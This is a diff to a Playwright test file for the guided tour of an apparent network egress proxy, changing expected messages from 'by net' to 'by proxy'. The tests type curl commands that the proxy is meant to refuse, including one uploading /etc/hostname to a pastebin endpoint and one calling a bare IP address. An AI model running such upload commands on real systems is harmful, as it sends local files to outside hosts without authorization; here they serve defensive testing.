@@ -27,7 +27,7 @@ const card = (page: Page) => page.getByTestId("tour-card");
 const tourEvents = (page: Page) =>
   page.evaluate(() => (window.__tab?.log.events() ?? []).flatMap((e) => (e.kind === "tour.step" ? [`${e.phase} ${e.step}`] : [])));
 
-test("step 1: sending a file to pastebin is refused host-not-allowed by net, explained, and the tour moves on", async () => {
+test("step 1: sending a file to pastebin is refused host-not-allowed by proxy, explained, and the tour moves on", async () => {
   test.setTimeout(180_000);
   const page = pg.page;
   await expect(card(page)).toHaveAttribute("data-step", "pastebin");
@@ -35,7 +35,7 @@ test("step 1: sending a file to pastebin is refused host-not-allowed by net, exp
   await typeInTerminal(page, "curl -sS -T /etc/hostname https://pastebin.com/api/upload");
   await expect(card(page)).toHaveAttribute("data-step", "ip-literal", { timeout: 90_000 });
   const explained = page.getByTestId("tour-explained");
-  await expect(explained).toContainText("host-not-allowed (by net");
+  await expect(explained).toContainText("host-not-allowed (by proxy");
   await expect(explained).toContainText("Verdict table, row 2");
   expect(await tourEvents(page)).toEqual(expect.arrayContaining(["passed pastebin", "start ip-literal"]));
   await page.screenshot({ path: "docs/screenshots/tour.png" }); // docs/guide.md, "The guided tour"
@@ -51,13 +51,13 @@ test("step 2: a wrong outcome says what happened and does not advance; the IP li
   await expect(card(page)).toHaveAttribute("data-step", "ip-literal");
 
   await typeInTerminal(page, "curl -sS https://api.github.com/zen; echo");
-  await expect(attempt).toContainText("served (by net", { timeout: 90_000 });
+  await expect(attempt).toContainText("served (by proxy", { timeout: 90_000 });
   await expect(attempt).toContainText("nothing was refused");
   await expect(card(page)).toHaveAttribute("data-step", "ip-literal");
 
   await typeInTerminal(page, "curl -sS https://93.184.216.34/");
   await expect(card(page)).toHaveAttribute("data-step", "bypass", { timeout: 90_000 });
-  await expect(page.getByTestId("tour-explained")).toContainText("ip-literal (by net");
+  await expect(page.getByTestId("tour-explained")).toContainText("ip-literal (by proxy");
   expect(await tourEvents(page)).toEqual(expect.arrayContaining(["wrong ip-literal", "passed ip-literal", "start bypass"]));
 });
 
